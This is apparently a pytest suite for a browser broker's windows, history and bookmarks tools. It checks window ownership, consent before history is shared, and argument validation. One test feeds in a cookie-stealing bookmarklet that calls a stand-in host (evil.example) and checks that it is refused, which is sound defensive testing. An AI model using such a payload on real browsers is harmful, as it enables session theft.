"""Windows, history and bookmarks from the broker's side: what MCP and REST clients see.

A scripted fake extension that announces the "windows", "history" and "bookmarks" features
stands in for the browser (``tests/e2e/test_e2e_browser_wide.py`` runs the real one). The tests are
the rules a client meets: which tools are listed, whose windows it may focus or close, that the
person's history and bookmarks answer only once they share them, and a clear error for every
bad request, with nothing sent to the browser.
"""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from ..conftest import BrokerUnderTest, MakeBroker
from ..support.fakes import FakeExtension, FakeTab
from ..support.mcp_clients import ERAS, MODERN, refused, text

FEATURES = ["windows", "history", "bookmarks"]
WIDE_TOOLS = ["browser_windows", "browser_history_search", "browser_bookmarks"]


@pytest.fixture(params=ERAS)
def era(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def persons_tab(tab_id: int = 7, window_id: int = 1, pinned: bool = False) -> FakeTab:
    return FakeTab(tab_id, f"https://page{tab_id}.example/", f"Page {tab_id}", window_id=window_id, pinned=pinned)


def sent_requests(fake: FakeExtension) -> list[str]:
    return [m["request"] for m in fake.received("browserRequest")]


async def test_the_tools_are_listed_while_a_browser_offers_them(broker: BrokerUnderTest, era: str) -> None:
    async with broker.mcp("Claude Code", era) as client:
        assert not set(WIDE_TOOLS) & set(await client.tool_names())
        await broker.extension(persons_tab(), features=FEATURES)
        await client.changes.next(0)
        tools = await client.tools()
        assert [name for name in tools if name in WIDE_TOOLS] == WIDE_TOOLS
        history = tools["browser_history_search"]
        assert history.annotations is not None and history.annotations.read_only_hint is True
        assert history.input_schema["required"] == ["query"]
        assert "options" in (history.description or "")


async def test_an_older_extension_lists_none_and_says_not_supported(broker: BrokerUnderTest, era: str) -> None:
    fake = await broker.extension(FakeTab(7, "https://page7.example/"))
    async with broker.mcp("Claude Code", era) as client:
        assert not set(WIDE_TOOLS) & set(await client.tool_names())
        message = await refused(client, "browser_windows", {"action": "list"}, "not_supported")
        assert "does not offer windows" in message
        await refused(client, "browser_history_search", {"query": "news"}, "not_supported")
        await refused(client, "tabs", {"action": "open", "url": "https://x.example/", "pinned": True}, "not_supported")
    assert fake.received("browserRequest") == []
    assert fake.received("openTab") == []


async def test_tab_records_carry_window_index_and_pinned(broker: BrokerUnderTest) -> None:
    await broker.extension(persons_tab(7, 1, pinned=True), persons_tab(8, 1), persons_tab(9, 2), features=FEATURES)
    _, body = await broker.get("/tabs")
    places = {t["id"]: (t["windowId"], t["index"], t["pinned"]) for t in body["tabs"]}
    assert places == {7: (1, 0, True), 8: (1, 1, False), 9: (2, 0, False)}
    async with broker.mcp("Claude Code", MODERN) as client:
        listed = await client.call_json("tabs", {"action": "list"})
        assert {t["id"]: t["windowId"] for t in listed["tabs"]} == {7: 1, 8: 1, 9: 2}


async def test_a_tab_reported_without_a_place_keeps_what_was_known(broker: BrokerUnderTest) -> None:
    fake = await broker.extension(persons_tab(7, 3), features=FEATURES)
    await fake.send({"type": "tabUpdated", "tab": {"id": 7, "title": "Renamed", "url": "https://page7.example/"}})
    await broker.settled(fake)
    _, body = await broker.get("/tabs")
    assert [(t["title"], t["windowId"], t["index"]) for t in body["tabs"]] == [("Renamed", 3, 0)]


async def test_a_new_window_opens_with_a_tab_the_client_owns(broker: BrokerUnderTest, era: str) -> None:
    fake = await broker.extension(persons_tab(7, 1), features=FEATURES)
    async with broker.mcp("Claude Code", era) as client:
        created = await client.call_json("browser_windows", {"action": "create", "url": "https://mine.example/"})
        sent = await fake.wait_for("openTab")
        assert sent["newWindow"] is True and sent["url"] == "https://mine.example/"
        window, tab = created["window"], created["opened"]
        assert tab["owner"]["name"] == "Claude Code" and tab["windowId"] == window["id"]
        assert window["tabs"] == [tab["id"]] and window["yours"] is True
        listed = await client.call_json("browser_windows", {"action": "list"})
        yours = {w["id"]: w["yours"] for w in listed["windows"]}
        assert yours == {1: False, window["id"]: True}
        assert next(w for w in listed["windows"] if w["id"] == 1)["tabs"] == [7]
        # Its tab is the client's current tab, as one opened with `tabs` is.
        assert (await client.call_json("tabs", {"action": "list"}))["tabs"][-1]["owner"] is not None
        focused = await client.call_json("browser_windows", {"action": "focus", "windowId": window["id"]})
        assert focused == {"focused": {"browser": "b1", "id": window["id"]}}
        closed = await client.call_json("browser_windows", {"action": "close", "windowId": window["id"]})
        assert closed == {"closed": {"browser": "b1", "id": window["id"]}}
    assert sent_requests(fake) == ["listWindows", "focusWindow", "closeWindow"]


async def test_a_window_holding_the_persons_tab_cannot_be_focused_or_closed(broker: BrokerUnderTest) -> None:
    fake = await broker.extension(persons_tab(7, 1), features=FEATURES)
    async with broker.mcp("Claude Code", MODERN) as client:
        # A tab of its own in the person's window does not make the window its own.
        await client.call_json("tabs", {"action": "open", "url": "https://mine.example/", "windowId": 1})
        for action in ("focus", "close"):
            message = await refused(client, "browser_windows", {"action": action, "windowId": 1}, "window_not_owned")
            assert f"cannot {action} window b1:1" in message
            assert "the person's tab b1:7 (Page 7)" in message and "action=create" in message
    assert sent_requests(fake) == []


async def test_another_clients_window_is_refused_naming_the_client(broker: BrokerUnderTest) -> None:
    fake = await broker.extension(persons_tab(7, 1), features=FEATURES)
    async with broker.mcp("Claude Code", MODERN) as owner, broker.mcp("Cursor", MODERN) as other:
        window = (await owner.call_json("browser_windows", {"action": "create"}))["window"]["id"]
        message = await refused(other, "browser_windows", {"action": "close", "windowId": window}, "window_not_owned")
        assert "of session 'Claude Code'" in message
        listed = await other.call_json("browser_windows", {"action": "list"})
        assert all(not w["yours"] for w in listed["windows"])
        # Nor may it put a tab of its own there.
        url = "https://other.example/"
        message = await refused(other, "tabs", {"action": "open", "url": url, "windowId": window}, "window_not_owned")
        assert "cannot open a tab in window" in message
    assert sent_requests(fake) == ["listWindows"]


async def test_unknown_windows_and_bad_arguments_are_refused_and_cost_nothing(broker: BrokerUnderTest) -> None:
    fake = await broker.extension(persons_tab(7, 1), features=FEATURES)
    async with broker.mcp("Claude Code", MODERN) as client:
        message = await refused(client, "browser_windows", {"action": "close", "windowId": 99}, "window_not_found")
        assert "no window 99" in message
        await refused(client, "browser_windows", {"action": "focus", "windowId": "b1:99"}, "window_not_found")
        await refused(client, "browser_windows", {"action": "focus", "windowId": "b7:1"}, "browser_not_found")
        assert "needs `windowId`" in await refused(client, "browser_windows", {"action": "close"}, "invalid_request")
        await refused(client, "browser_windows", {"action": "close", "windowId": True}, "invalid_request")
        await refused(client, "browser_windows", {"action": "minimize"}, "invalid_request")
        await refused(client, "browser_windows", {"action": "create", "url": 5}, "invalid_request")
        await refused(client, "browser_history_search", {}, "invalid_request")
        await refused(client, "browser_history_search", {"query": "a", "maxResults": 0}, "invalid_request")
        await refused(client, "browser_history_search", {"query": "a", "startTime": "yesterday"}, "invalid_request")
        await refused(client, "browser_bookmarks", {"action": "create"}, "invalid_request")
        for bookmarklet in ("javascript:fetch('https://evil.example/?'+document.cookie)", "data:text/html,hi"):
            message = await refused(
                client, "browser_bookmarks", {"action": "create", "url": bookmarklet}, "invalid_request"
            )
            assert "http: and https: pages or about:blank only" in message
        await refused(client, "browser_bookmarks", {"action": "search"}, "invalid_request")
        await refused(client, "browser_bookmarks", {"action": "delete"}, "invalid_request")
        url = "https://x.example/"
        await refused(client, "tabs", {"action": "open", "url": url, "windowId": 99}, "window_not_found")
        await refused(client, "tabs", {"action": "open", "url": url, "windowId": "1"}, "invalid_request")
    assert fake.received("browserRequest") == []
    assert fake.received("openTab") == []


async def test_history_answers_only_once_the_person_shares_it(broker: BrokerUnderTest, era: str) -> None:
    fake = await broker.extension(persons_tab(), features=FEATURES)
    fake.history = [{"title": "Kittens", "url": "https://kittens.example/", "time": "2026-05-01T09:00:00.000Z"}]
    async with broker.mcp("Claude Code", era) as client:
        message = await refused(client, "browser_history_search", {"query": "Kittens"}, "consent_required")
        assert "options" in message
        fake.shared = True
        found = await client.call_json(
            "browser_history_search", {"query": "Kittens", "maxResults": 5, "startTime": "2026-04-30T00:00:00Z"}
        )
        assert found == {"results": fake.history}
    sent = fake.received("browserRequest")[-1]
    assert sent["args"] == {"query": "Kittens", "maxResults": 5, "startTime": 1777507200000.0}


async def test_a_bookmark_created_is_found(broker: BrokerUnderTest) -> None:
    fake = await broker.extension(persons_tab(), features=FEATURES)
    fake.shared = True
    async with broker.mcp("Claude Code", MODERN) as client:
        created = await client.call_json(
            "browser_bookmarks", {"action": "create", "url": "https://found.example/", "title": "Found"}
        )
        assert created["bookmark"]["title"] == "Found"
        found = await client.call_json("browser_bookmarks", {"action": "search", "query": "found"})
        assert [b["url"] for b in found["results"]] == ["https://found.example/"]


async def test_a_paused_browser_is_asked_nothing(broker: BrokerUnderTest) -> None:
    fake = await broker.extension(persons_tab(), features=FEATURES)
    await fake.send({"type": "pauseChanged", "paused": True})
    await broker.settled(fake)
    async with broker.mcp("Claude Code", MODERN) as client:
        await refused(client, "browser_windows", {"action": "list"}, "paused")
        await refused(client, "browser_windows", {"action": "create"}, "paused")
    assert fake.received("browserRequest") == [] and fake.received("openTab") == []


async def test_a_request_the_browser_never_answers_times_out_naming_it(make_broker: MakeBroker) -> None:
    broker = await make_broker(call_timeout=0.3)
    fake = await broker.extension(persons_tab(), features=FEATURES)

    async def silent(message: dict[str, Any]) -> None:
        return None

    fake.on_request = silent
    status, body = await broker.get("/history?q=x")
    assert (status, body["error"]["code"]) == (504, "timeout")
    assert body["error"]["message"].startswith("searchHistory on b1 did not answer")


# REST


async def test_rest_routes_and_their_statuses(broker: BrokerUnderTest) -> None:
    fake = await broker.extension(persons_tab(7, 1), features=FEATURES)
    status, body = await broker.get("/windows")
    assert status == 200 and [w["id"] for w in body["windows"]] == [1]
    status, body = await broker.post("/windows", {"url": "https://rest.example/"})
    assert status == 200 and body["opened"]["owner"]["sessionId"] == "rest"
    assert body["untrusted"] == ["opened.title", "opened.url", "opened.tools"]
    window = body["window"]["id"]
    status, body = await broker.delete("/windows/1")
    assert (status, body["error"]["code"]) == (409, "window_not_owned")
    status, body = await broker.post(f"/windows/b1:{window}/focus")
    assert (status, body) == (200, {"focused": {"browser": "b1", "id": window}})
    status, body = await broker.delete(f"/windows/{window}")
    assert (status, body) == (200, {"closed": {"browser": "b1", "id": window}})
    status, body = await broker.delete("/windows/555")
    assert (status, body["error"]["code"]) == (404, "window_not_found")
    status, body = await broker.get("/history?q=news")
    assert (status, body["error"]["code"]) == (403, "consent_required")
    fake.shared = True
    fake.history = [{"title": "news", "url": "https://news.example/", "time": "2026-05-01T09:00:00.000Z"}]
    status, body = await broker.get("/history?q=news&max=3")
    assert status == 200 and len(body["results"]) == 1
    assert body["untrusted"] == ["results[].title", "results[].url"], "titles the pages visited chose"
    assert fake.received("browserRequest")[-1]["args"] == {"query": "news", "maxResults": 3}
    status, body = await broker.get("/history?q=news&max=lots")
    assert (status, body["error"]["code"]) == (400, "invalid_request")
    status, body = await broker.post("/bookmarks", {"title": "no url"})
    assert (status, body["error"]["code"]) == (400, "invalid_request")
    status, body = await broker.post("/bookmarks", {"url": "https://kept.example/"})
    assert status == 200 and body["bookmark"]["title"] == "https://kept.example/"
    status, body = await broker.get("/bookmarks?q=kept")
    assert status == 200 and [b["url"] for b in body["results"]] == ["https://kept.example/"]
    status, body = await broker.post("/tabs", {"url": "https://pinned.example/", "pinned": True, "windowId": window})
    assert (status, body["error"]["code"]) == (404, "window_not_found")  # closed above
    status, body = await broker.post("/tabs", {"url": "https://pinned.example/", "pinned": True, "windowId": 1})
    assert status == 200 and (body["tab"]["windowId"], body["tab"]["pinned"]) == (1, True)


async def test_rest_says_not_supported_for_an_older_extension(broker: BrokerUnderTest) -> None:
    await broker.extension(FakeTab(7, "https://page7.example/"))
    answers = [await broker.get("/windows"), await broker.get("/bookmarks?q=x"), await broker.post("/windows")]
    for status, body in answers:
        assert (status, body["error"]["code"]) == (501, "not_supported")
    status, body = await broker.get("/status")
    assert body["browsers"][0]["features"] == []


async def test_a_bookmark_waiting_for_the_persons_approval_outlives_its_timeout(make_broker: MakeBroker) -> None:
    broker = await make_broker(call_timeout=0.5)
    fake = await broker.extension(persons_tab(), features=FEATURES)
    fake.shared = True

    async def ask_the_person(message: dict[str, Any]) -> None:
        await fake.send({"type": "approvalPending", "callId": message["callId"], "timeout": 60})
        await asyncio.sleep(1.0)  # twice the call timeout: the person reads the window
        await fake.answer_request(message)

    fake.on_request = ask_the_person
    async with broker.mcp("Claude Code", MODERN) as client:
        created = await client.call(
            "browser_bookmarks", {"action": "create", "url": "https://page7.example/", "title": "Seven"}
        )
        assert not created.is_error, text(created)
    assert sent_requests(fake) == ["createBookmark"]


async def test_a_window_that_gained_a_tab_before_it_closed_is_refused_as_not_owned(broker: BrokerUnderTest) -> None:
    fake = await broker.extension(persons_tab(7, 1), features=FEATURES)

    async def gained_a_tab(message: dict[str, Any]) -> None:
        if message["request"] != "closeWindow":
            await fake.answer_request(message)
            return
        error = {"code": "window_changed", "message": "window 100 was not closed: tab 1001 opened in it"}
        await fake.send({"type": "toolResult", "callId": message["callId"], "error": error})

    fake.on_request = gained_a_tab
    async with broker.mcp("Claude Code", MODERN) as client:
        window = (await client.call_json("browser_windows", {"action": "create"}))["window"]["id"]
        message = await refused(client, "browser_windows", {"action": "close", "windowId": window}, "window_not_owned")
        assert "tab 1001 opened in it" in message
    [close] = [m for m in fake.received("browserRequest") if m["request"] == "closeWindow"]
    assert close["args"]["windowId"] == window and len(close["args"]["tabIds"]) == 1


async def test_browser_resize_asks_only_for_a_window_whose_every_tab_is_the_clients(broker: BrokerUnderTest) -> None:
    fake = await broker.extension(persons_tab(7, window_id=1), features=FEATURES, actions=["snapshot"])
    async with broker.mcp("Claude Code", MODERN) as client:
        assert "browser_resize" in await client.tool_names()
        await refused(client, "browser_resize", {"width": 800, "height": 600}, "invalid_request")  # no current tab
        await client.call_json("tabs", {"action": "open", "url": "https://beside.example/", "windowId": 1})
        says = await refused(client, "browser_resize", {"width": 800, "height": 600}, "window_not_owned")
        assert "the person's tab b1:7" in says and "resized" in says
        created = await client.call_json("browser_windows", {"action": "create", "url": "https://own.example/"})
        for bad in (
            {"width": 0, "height": 600},
            {"width": -1, "height": 600},
            {"width": 800, "height": 10_001},
            {"width": "800", "height": 600},
            {"width": 800},
            {"width": None, "height": False},
        ):
            says = await refused(client, "browser_resize", bad, "invalid_request")
            assert "CSS pixels" in says, says
        assert sent_requests(fake) == []
        resized = await client.call_json("browser_resize", {"width": 900.4, "height": 700})
        assert resized == {"resized": {"browser": "b1", "id": created["window"]["id"], "width": None, "height": None}}
        [asked] = fake.received("browserRequest")
        assert (asked["request"], asked["args"]) == (
            "resizeWindow",
            {"width": 900, "height": 700, "windowId": created["window"]["id"]},
        )
